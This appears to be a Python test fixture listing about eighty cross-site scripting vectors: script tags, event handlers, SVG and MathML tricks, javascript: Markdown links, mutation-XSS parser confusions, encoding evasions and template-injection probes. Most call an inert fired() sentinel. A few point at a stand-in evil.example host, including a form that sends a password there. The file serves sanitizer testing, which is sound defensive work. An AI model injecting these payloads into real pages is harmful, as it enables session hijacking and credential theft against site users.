"""Texts that try to run a script. Each calls `fired()` if it does. Own writing of the well-known classes."""

from __future__ import annotations

F = "window.fired&&fired()"
TAB, NEWLINE, NUL = "\t", "\n", "\x00"

SCRIPTS = [
    f"<script>{F}</script>",
    f"<ScRiPt >{F}</sCrIpT >",
    f"</title><script>{F}</script>",
    f"</textarea><script>{F}</script>",
    f"--><script>{F}</script><!--",
    f"<<script>{F}//<</script>",
    f"<scr<script>ipt>{F}</scr</script>ipt>",
    f"<script\n>{F}</script\n>",
    "<script src=data:text/javascript,fired()></script>",
    f"]]><script>{F}</script>",
]
HANDLERS = [
    f'<img src=x onerror="{F}">',
    f"<img src=x onerror={F}//",
    f"<img/src='x'/onerror='{F}'>",
    f"<img src=x oNeRrOr\n=\n{F}>",
    f"<body onload={F}>",
    f"<input autofocus onfocus={F}>",
    f"<select autofocus onfocus={F}><option>x</select>",
    f"<details open ontoggle={F}>x</details>",
    f"<video><source onerror={F}></video>",
    f"<audio src=x onerror={F}>",
    f"<marquee onstart={F}>x</marquee>",
    f"<object data=x onerror={F}></object>",
    f"<div popover id=p onbeforetoggle={F}></div><button popovertarget=p>x</button>",
    f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={F}>x</b>",
]
FOREIGN = [
    f"<svg onload={F}>",
    f"<svg><script>{F}</script></svg>",
    f"<svg/onload={F}//",
    f"<svg><animate onbegin={F} attributeName=x dur=1s>",
    "<svg><a href='javascript:fired()'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=fired() xmlns=http://www.w3.org/2000/svg/>#x'></svg>",
    f"<math><mtext><img src=x onerror={F}></mtext></math>",
    "<math href='javascript:fired()'>x</math>",
]
ADDRESSES = [
    "[x](javascript:fired())",
    "[x](JaVaScRiPt:fired())",
    "[x](javascript&#58;fired())",
    "[x](java&#x09;script:fired())",
    f"[x](<java{TAB}script:fired()>)",
    "[x](&#1;javascript:fired())",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)",
    "![x](javascript:fired())",
    '![x](x"onerror="fired())',
    '[x](https://example.org/"onmouseover="fired())',
    "[x](https://example.org 'a\" onfocus=fired() autofocus')",
    "<javascript:fired()>",
    "[x][r]\n\n[r]: javascript:fired()",
    "[x][s]\n\n[s]: https://example.org \"t' onclick='fired()\"",
    "<a href=javascript:fired()>x</a>",
    f"<a href='java{NEWLINE}script:fired()'>x</a>",
    "<form action=javascript:fired()><button>x</button></form>",
    "<button formaction=javascript:fired()>x</button>",
    "<https://example.org/<img src=x onerror=fired()>>",
]
BLOCKS = [
    "```html\n<img src=x onerror=fired()>\n```\n<img src=x onerror=fired()>",
    "`<img src=x onerror=fired()>`<img src=x onerror=fired()>",
    '```"><img/src=x/onerror=fired()>\nx\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=fired()> | x |",
    "> <svg onload=fired()>",
    "# <svg onload=fired()>",
    "<div>\n\n<img src=x onerror=fired()>\n\n</div>",
    "\\<img src=x onerror=fired()>",
]
MUTATIONS = [
    f"<noscript><p title='</noscript><img src=x onerror={F}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={F}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={F}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={F}>",
    f"<template><img src=x onerror={F}></template>",
    f"<listing>&lt;img src=x onerror={F}&gt;</listing>",
    f"<xmp><img title='</xmp><img src=x onerror={F}>'></xmp>",
]
ATTRIBUTES = [
    f'"><img src=x onerror={F}>',
    f"'><img src=x onerror={F}>",
    f'" autofocus onfocus="{F}',
    f"' onmouseover='{F}",
    f"` onclick=`{F}",
    f'x" style="animation-name:k" onanimationstart="{F}',
    '" hx-on:load="fired()" x="',
    '"><div hx-get="/livez" hx-trigger="load" hx-on::after-request="fired()">',
]
FRAMES = [
    f"<iframe srcdoc='<script>parent.{F.split('&&')[1]}</script>'></iframe>",
    "<iframe src=javascript:parent.fired()></iframe>",
    "<embed src=javascript:fired()>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:fired()">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<form action=//evil.example/><input name=password><button>x</button></form>",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
]
TRICKS = [
    "{{ 7*191 }} {% debug %} ${7*191} #{7*191}",
    "{{ ''.__class__.__mro__ }}",
    f"＜img src=x onerror={F}＞",
    f"\ufeff<img src=x onerror={F}>",
    f"<img\u2028src=x\u2029onerror={F}>",
    f"<i{NUL}mg src=x onerror={F}>",
    f"\u202e<img src=x onerror={F}>",
    "+ADw-script+AD4-fired()+ADw-/script+AD4-",
    f"%3Cimg src=x onerror={F}%3E",
    f"&lt;img src=x onerror={F}&gt;",
    f"&amp;lt;img src=x onerror={F}&amp;gt;",
]
VECTORS = SCRIPTS + HANDLERS + FOREIGN + ADDRESSES + BLOCKS + MUTATIONS + ATTRIBUTES + FRAMES + TRICKS
assert len(VECTORS) >= 60
assert len(set(VECTORS)) == len(VECTORS)
